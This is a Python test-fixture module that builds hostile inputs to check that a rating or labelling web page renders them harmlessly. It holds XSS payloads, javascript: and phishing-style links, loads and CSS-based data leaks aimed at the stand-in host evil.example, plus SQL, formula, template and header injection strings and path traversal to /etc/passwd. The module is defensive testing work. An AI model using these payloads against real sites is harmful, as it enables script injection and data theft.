# ruff: noqa: E501  (a payload is one line)
"""Texts that try to run, load, restyle, hide or lead away when they are shown; each tells if it succeeds.

Those that run call alert() or set `document.title`; those that load ask evil.example; those that restyle hide
or cover the page. A page that shows all of them does none of it.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Mapping, Sequence

FULL = os.environ.get("CALIBRANT_HOSTILE") == "full"
HOST = "evil.example"
RUN = "alert('ran')"
_SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>".encode()).decode()
_PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
_PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # fmt: skip
_UTF7 = "+ADw-script+AD4-alert('utf-7')+ADw-/script+AD4-"

SCRIPTS: Mapping[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script with a source": f'<script src="https://{HOST}/s.js"></script><script type=module>{RUN}</script>',
    "script in mixed case": f"<ScRiPt >{RUN}</sCrIpT\t\n bar>",
    "script split by a null": "<scr\x00ipt>alert('null')</scr\x00ipt>",
    "script in a comment": f"<!--><script>{RUN}</script>--> <!-- --!><img src=x onerror={RUN}> -->",
    "script after closing tags": f"</div></section></div></body></html><script>{RUN}</script>",
    "script that closes a script": f'</script><script>{RUN}</script>{{"a": "</script>"}}',
    "script in a template": f"<template><script>{RUN}</script></template><noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "handler of an image": f'<img src=x onerror="{RUN}">',
    "handler without quotes": f"<img/src=`x`onerror={RUN}// <image src=x onerror={RUN}>",
    "handler of a video": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "handler that waits for focus": f"<input autofocus onfocus={RUN}> <textarea autofocus onfocus={RUN}>",
    "handler of a fold": f"<details open ontoggle={RUN}>x</details><marquee onstart={RUN}>m</marquee>",
    "handler of the body": f"<body onload={RUN} onpageshow={RUN}>",
    "handler of an animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>b</b>",
    "handler that opens a popover": f"<button popovertarget=p>go</button><div popover id=p onbeforetoggle={RUN}>p</div>",
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg that animates": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>click me</text></a></svg>",
    "svg that uses": f'<svg><use href="https://{HOST}/u.svg#x"/><image href="https://{HOST}/i.png"/></svg>',
    "svg with a foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    "math": f'<math><mtext></table></math><img src=x onerror="{RUN}">',
    "math that mutates": f"<math><mi><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
}  # fmt: skip
LINKS: Mapping[str, str] = {
    "link to a script": f'<a href="javascript:{RUN}">click me</a> [click me](javascript:{RUN})',
    "link to a script, spelled oddly": f"[click me](java\tscript:{RUN}) [click me](JaVaScRiPt:{RUN}) [click me](\x01javascript:{RUN})",
    "link to a script, in entities": f"[click me](&#106;avascript:{RUN}) [click me](javascript&colon;{RUN}) [click me](java%0ascript:{RUN})",
    "link to a script, automatic": f"<javascript:{RUN}> <vbscript:msgbox(1)>",
    "link to a page of data": f"[click me](data:text/html;base64,{_PAGE}) [click me](<data:text/html,x>)",
    "link to a blob or a file": "[click me](blob:null/1) [click me](file:///etc/passwd) [click me](view-source:x)",
    "link by reference": f"[click me][r]\n\n[r]: javascript:{RUN}",
    "link with an attribute": f'[x](https://{HOST}/" onmouseover="{RUN}) [x](https://{HOST} "t\\" onclick=\\"{RUN}")',
    "link in a link": f"[a [b](javascript:{RUN}) c](https://{HOST}/nested)",
    "link that names another host": f"[https://bank.example/login](https://{HOST}/login)",
    "link without a host": "[click me](//evil.example/x) [click me](/rate?rater=Ada) [click me](?plain=1) [click me](#x)",
    "link with a user's name": f"[bank](https://bank.example@{HOST}/) https://bank.example%2f@{HOST}/",
    "bare link": f"see https://{HOST}/bare and www.{HOST} or mail me@{HOST}",
}  # fmt: skip
LOADS: Mapping[str, str] = {
    "image": f'<img src="https://{HOST}/pixel.png"> ![pixel](https://{HOST}/markdown.png)',
    "image set": f'<img srcset="https://{HOST}/1x.png 1x, https://{HOST}/2x.png 2x"><picture><source srcset="https://{HOST}/p"></picture>',
    "image of another scheme": f"![x](//{HOST}/scheme.png) ![x](http://{HOST}/plain.png) ![x](ftp://{HOST}/x.png)",
    "image that is a document": f"![x](data:image/svg+xml;base64,{_SVG}) ![x](data:text/html;base64,{_PAGE})",
    "image with an attribute": f'![" onerror="{RUN}](https://{HOST}/q.png) ![x]({_PIXEL}" onload="{RUN})',
    "image written out": f"![a dot]({_PIXEL})",
    "iframe": f"<iframe src=\"javascript:{RUN}\"></iframe><iframe src=https://{HOST}/f></iframe><iframe srcdoc='<script>{RUN}</script>'>",
    "object and embed": f"<object data=https://{HOST}/o></object><embed src=https://{HOST}/e><applet code=x>",
    "meta refresh": f'<meta http-equiv="refresh" content="0; url=https://{HOST}/meta">',
    "base": f'<base href="https://{HOST}/"><base target="_parent">',
    "link elements": f'<link rel=stylesheet href=https://{HOST}/l.css><link rel=prefetch href=https://{HOST}/p><link rel=dns-prefetch href=//{HOST}>',
    "form": f"<form action=https://{HOST} id=f><input name=rater><button>Submit and next</button></form><button form=f formaction=javascript:{RUN}>x</button>",
    "background": f'<table background="https://{HOST}/t.png"><td background="https://{HOST}/d.png"></table>',
    "portal and ping": f'<portal src=https://{HOST}></portal><a href="https://{HOST}/a" ping="https://{HOST}/ping">click me</a>',
}  # fmt: skip
STYLES: Mapping[str, str] = {
    "style": f"<style>* {{ display: none !important }} body {{ background: url(https://{HOST}/style) }}</style>",
    "style attribute": f'<p style="position:fixed;inset:0;z-index:99999;background:red url(https://{HOST}/css)">over</p>',
    "style by import": f"@import url(https://{HOST}/import.css); </style><style>body{{visibility:hidden}}",
    "style by our own classes": '<div class="cal-main cd-root st-key-cal-rate-actions" id="root" data-cd="root">x</div>',
    "style that reads": f"<style>input[value^=a]{{background:url(https://{HOST}/a)}}</style><style>@font-face{{font-family:x;src:url(https://{HOST}/f)}}</style>",
}  # fmt: skip
MARKDOWN: Mapping[str, str] = {
    "streamlit's directives": ":red[red] :blue-background[b] :small[s] :material/home: :streamlit: :smile: :+1: -> <- -- >=",
    "formulas": f"$x^2$ $$\\href{{javascript:{RUN}}}{{x}}$$ $\\includegraphics{{https://{HOST}/tex.png}}$ \\(\\url{{javascript:1}}\\)",
    "formula that grows": "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\style{position:fixed}{x}$",
    "code that closes": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "code with a name": f'``` "><img src=x onerror={RUN}>\ncode\n```',
    "mermaid": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]-->B; click A href "javascript:{RUN}"\n```',
    "vega": f'```vega-lite\n{{"data": {{"url": "https://{HOST}/data.json"}}, "mark": "bar"}}\n```',
    "table": f"| a<script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | ![x](https://{HOST}/cell) |",
    "heading and rule": "title\n=====\n\n# big\n\n- - -\n\n> quoted\n\n    indented code",
    "footnote": f"[^1] text\n\n[^1]: <script>{RUN}</script>",
}  # fmt: skip
SPELLINGS: Mapping[str, str] = {
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;svg onload={RUN}&#x3e;",
    "entities twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "utf-7": _UTF7,
    "overlong and fullwidth": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02c2script\u02c3",
    "turned direction": "file \u202egnp.exe\u202c \u2066isolate \u202d left to right without end",
    "unseen characters": "Ad\u200ba Gra\u00adce \u2060x\ufeffy \u200f\u200e z\u034f",
    "stacked marks": "Z" + "\u0300\u0301\u0302\u0303\u0323\u0324" * 40 + " stacked",
    "long word": "w" * 5_000,
    "control characters": "a\x00b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x85i",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J",
    "rich": "[red]red[/red] [link=https://evil.example]l[/link] [blink]b[/blink] [/]",
    "line ends": "Ada\r\nSet-Cookie: x=1\r\n\r\n<script>alert('header')</script>\u2028next\u2029next",
    "log line": "Ada\n2026-01-01 00:00:00 ERROR calibrant everything is lost",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s %s {constructor.constructor('alert(1)')()}",
    "formula of a sheet": '=HYPERLINK("https://evil.example","x") \t=1+1 +1 -1 @SUM(1) |cmd',
    "quotes": "'; DROP TABLE label; -- \" OR 1=1 \\' `x` %' _",
    "path": "../../../../etc/passwd ..\\..\\x CON nul.txt /etc/shadow",
}  # fmt: skip
STRUCTURED: Mapping[str, str] = {
    "chat": json.dumps({"messages": [{"role": f"<img src=x onerror={RUN}>", "content": f"<script>{RUN}</script>"}]}),
    "keys": json.dumps({f"<script>{RUN}</script>": {"value": f"<img src=x onerror={RUN}>"}}),
    "prototype": '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    "closing script": json.dumps({"a": f"</script><script>{RUN}</script>", "b": "<!--<script>"}),
    "deep": '{"a":' * 60 + "1" + "}" * 60,
    "numbers": '{"big": 1e400, "nan": NaN, "long": ' + "9" * 400 + "}",
}  # fmt: skip

NAMED: Mapping[str, str] = {
    **SCRIPTS, **LINKS, **LOADS, **STYLES, **MARKDOWN, **SPELLINGS, **STRUCTURED
}  # fmt: skip
TEXTS: tuple[str, ...] = tuple(NAMED.values())


def named(longest: int = 190) -> list[str]:
    """Those that may be a name (of a rater, a judge, a stratum): on one line, without control characters."""
    return [text for text in TEXTS if text.isprintable() and len(text) <= longest]


def items() -> list[dict[str, object]]:
    """Every text in every place of an item: by itself in full, all in a few items in short."""
    return _one_by_one() if FULL else _all_in_few()


def _one_by_one() -> list[dict[str, object]]:
    return [
        {
            "item_id": f"hostile-{k:02}",
            "input": text,
            "output": f"item {k}: {text}" if not text.startswith("{") else text,
            "context": text,
            "sources": [text],
            "reference": text,
        }
        for k, text in enumerate(TEXTS)
    ]


def _all_in_few() -> list[dict[str, object]]:
    """All texts as sources, as turns of a conversation with tools and images, and as a tree."""
    return [
        {"item_id": "hostile-prose", "output": "prose: " + TEXTS[0], "sources": list(TEXTS)},
        {"item_id": "hostile-chat", "output": chat(TEXTS), "input": TEXTS[1], "context": TEXTS[2]},
        {"item_id": "hostile-tree", "output": tree(TEXTS), "reference": TEXTS[3]},
        {"item_id": "hostile-joined", "output": "joined\n\n" + "\n\n".join(TEXTS)},
    ]


def chat(texts: Sequence[str]) -> str:
    """A conversation that has every text as role, words, tool, arguments, result, image and unknown field."""
    turns: list[dict[str, object]] = []
    for text in texts:
        parts = [
            {"type": "text", "text": text},
            {"type": "image_url", "image_url": {"url": text}},
            {text: text},
        ]
        call = {
            "id": text,
            "type": "function",
            "function": {"name": text, "arguments": json.dumps({text: text})},
        }
        turns.append({"role": text, "content": parts, "tool_calls": [call], text: text})
        turns.append({"role": "tool", "name": text, "content": text})
    return json.dumps({"messages": turns, "meta": texts[0]})


def tree(texts: Sequence[str]) -> str:
    return json.dumps({text: {"value": text, "list": [text]} for text in texts})
